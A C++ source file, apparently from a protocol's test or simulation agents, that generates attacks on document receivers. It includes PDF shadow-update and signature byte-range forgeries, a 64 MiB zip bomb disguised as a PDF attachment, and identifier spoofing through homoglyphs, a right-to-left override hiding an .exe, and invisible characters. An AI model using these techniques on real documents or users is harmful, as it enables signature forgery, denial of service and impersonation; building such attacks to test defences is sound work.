// Attacks on whoever looks into the files, and names that look like others.
#include <algorithm>

#include "agents/documents/attacks.hpp"
#include "protocol/packet/attachment.hpp"

namespace axle::agents {
namespace {

// The text between `key` and what ends the value, behind `from`; our own files have it in this form.
std::string_view value_behind(std::string_view text, std::string_view key, std::string_view end, std::size_t from) {
  const std::size_t at = text.find(key, from);
  AXLE_ASSERT(at != std::string_view::npos);
  const std::size_t begin = at + key.size();
  return text.substr(begin, text.find(end, begin) - begin);
}

void append(Bytes& bytes, std::string_view text) {
  bytes.insert(bytes.end(), text.begin(), text.end());
}

// An update behind the last signature in which page 1 shows something else (shadow attack, "replace").
void replace_page(Bytes& pdf) {
  const std::string_view text = as_text(pdf);
  const std::string contents(value_behind(text, "/Contents ", " 0 R", 0));
  const std::size_t trailer = text.rfind("trailer");
  AXLE_ASSERT(trailer != std::string_view::npos);
  const std::string size(value_behind(text, "/Size ", "\n", trailer));
  const std::string root(value_behind(text, "/Root ", "\n", trailer));
  const std::string previous(value_behind(text, "startxref\n", "\n", text.rfind("startxref")));
  const std::size_t object = pdf.size();
  const std::string drawn = "0.9 g 0 0 595 842 re f 0 g 70 700 200 9 re f";
  std::string update = contents + " 0 obj\n<< /Length " + std::to_string(drawn.size()) + " >>\nstream\n" + drawn +
                       "\nendstream\nendobj\n";
  const std::size_t table = object + update.size();
  std::string offset = std::to_string(object);
  offset.insert(0, 10 - offset.size(), '0');
  update += "xref\n" + contents + " 1\n" + offset + " 00000 n \ntrailer\n<</Size " + size + "\n/Root " + root +
            "\n/Prev " + previous + "\n>>\nstartxref\n" + std::to_string(table) + "\n%%EOF\n";
  append(pdf, update);
}

// The last signature's byte range says that it covers nothing (universal signature forgery).
void cover_nothing(Bytes& pdf) {
  constexpr std::string_view kRange = "/ByteRange [";
  const std::string_view text = as_text(pdf);
  const std::size_t at = text.rfind(kRange);
  AXLE_ASSERT(at != std::string_view::npos);
  const std::size_t begin = at + kRange.size(), end = text.find(']', begin);
  const std::string nothing = "0 0 0 0";
  AXLE_ASSERT(end - begin >= nothing.size());
  std::fill(pdf.begin() + static_cast<std::ptrdiff_t>(begin), pdf.begin() + static_cast<std::ptrdiff_t>(end), ' ');
  std::ranges::copy(nothing, pdf.begin() + static_cast<std::ptrdiff_t>(begin));
}

}  // namespace

void change_behind_signatures(Bytes& pdf, std::uint64_t variant) {
  switch (variant % 3) {
    case 0: replace_page(pdf); break;
    case 1: cover_nothing(pdf); break;
    default: append(pdf, "%%EOF\nwhat a viewer may show, and no signature covers\n%%EOF\n");
  }
}

PacketFileContent zip_bomb() {
  // The name that the SDK's zip wrapping has, so that receivers unwrap it. The same for every packet, made once.
  static const Bytes bomb = packet::zip_one("6a1d3c52-9f0e-4b7a-8c21-5e9d0f3b7a64.pdf", Bytes(64ULL << 20));
  return {"Phu-luc.pdf", "Phụ lục", bomb};
}

void confuse_identifiers(packet::DocumentHeader& header, std::vector<PacketFileContent>& files, std::uint64_t variant) {
  switch (variant % 4) {
    case 0: header.from.id = "\u041D" + header.from.id.substr(1); break;  // Cyrillic En for H or G
    case 1: files.front().name = "\u202Efdp.exe"; break;                  // shown as "exe.pdf"
    case 2: header.document_id.insert(header.document_id.size() / 2, "\u200B"); break;
    default:
      if (!header.to.empty()) header.to.front().id += "\u00A0";
  }
}

}  // namespace axle::agents
